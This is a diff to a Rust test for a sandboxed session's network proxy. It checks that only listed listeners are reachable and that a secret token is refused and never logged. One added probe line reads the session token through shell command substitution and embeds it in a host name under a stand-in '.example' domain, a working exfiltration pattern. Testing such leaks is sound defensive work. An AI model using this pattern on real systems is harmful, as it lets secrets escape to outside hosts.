@@ -141,6 +141,8 @@ fn allow_list_session_reaches_only_the_listed_listener_through_the_proxy() {
             format!("--abstract-unix-socket {name} http://x/"),
         ),
         ("localhost", format!("http://localhost:{}/", a.port)),
+        // The session spells the token it holds into a host name: refused, and never logged.
+        ("leak", "-p \"http://$(cat <&5).example/\"".to_string()),
     ];
     let script = probe(&fx, &checks);
     let network = json!({"allow": [format!("127.0.0.1:{}", a.port)]});
@@ -201,15 +203,27 @@ fn allow_list_session_reaches_only_the_listed_listener_through_the_proxy() {
             denied
                 .iter()
                 .any(|e| e["host"] == host && e["port"] == port && e["session_id"] == "allow"),
-            "no event for {host}:{port}: {denied:?}"
+            "no event for {host}:{port} among {} (not printed: one may hold the token)",
+            denied.len()
         );
     }
     for e in &denied {
         let keys: Vec<&String> = e.as_object().unwrap().keys().collect();
-        assert_eq!(
-            keys,
-            ["event", "host", "port", "reason", "session_id"],
-            "{e}"
+        assert_eq!(keys, ["event", "host", "port", "reason", "session_id"]);
+    }
+    assert_ne!(result(&r, "leak").1, "0", "{r:?}");
+    assert!(
+        denied.iter().any(|e| e["host"] == "[REDACTED].example"),
+        "no redacted refusal among {} events (not printed: one may hold the token)",
+        denied.len()
+    );
+    let token = std::fs::read(&fx.token_file).unwrap();
+    for f in relay_tests::files_under(&fx.state) {
+        let bytes = std::fs::read(&f).unwrap();
+        assert!(
+            !bytes.windows(token.len()).any(|w| w == token.as_slice()),
+            "{} holds the token",
+            f.display()
         );
     }
     // The proxy ended with the session: its socket is gone.
